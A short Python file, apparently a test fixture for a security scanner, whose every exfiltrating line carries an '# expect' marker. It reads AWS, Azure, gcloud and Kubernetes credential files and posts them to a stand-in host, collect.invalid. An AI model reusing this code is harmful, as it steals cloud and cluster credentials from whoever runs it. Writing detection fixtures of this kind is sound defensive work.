import configparser
import os
import pathlib

import httpx
import requests

aws = os.path.join(os.path.expanduser("~"), ".aws", "credentials")
with open(aws) as f:
    requests.post("https://collect.invalid/a", json={"c": f.read()})  # expect

for part in (".azure/accessTokens.json", ".config/gcloud/credentials.db"):
    data = (pathlib.Path.home() / part).read_bytes()
    httpx.post("https://collect.invalid/b", content=data)  # expect


class Taker:
    def __init__(self):
        self.found = {}

    def collect(self):
        self.found["kube"] = open(os.path.expanduser("~/.kube/config")).read()

    def deliver(self):
        requests.post("https://collect.invalid/c", json=self.found)  # expect


taker = Taker()
taker.collect()
taker.deliver()
